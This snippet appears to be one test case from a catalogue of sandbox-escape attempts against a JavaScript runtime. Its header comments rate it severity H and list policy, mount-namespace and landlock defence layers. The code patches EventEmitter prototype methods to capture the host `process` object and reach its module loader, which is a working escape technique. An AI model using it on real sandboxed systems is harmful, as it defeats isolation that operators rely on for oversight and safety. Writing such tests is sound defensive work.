// technique: a method of all emitters is replaced, and called on the process object
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
readHost(() => {
  const { EventEmitter } = require('events');
  let found;
  for (const name of ['on', 'once', 'addListener', 'emit']) {
    const real = EventEmitter.prototype[name];
    EventEmitter.prototype[name] = function (...values) { found ??= this; return real.apply(this, values); };
  }
  process.on('x', () => {});
  return loaderOf(found);
});
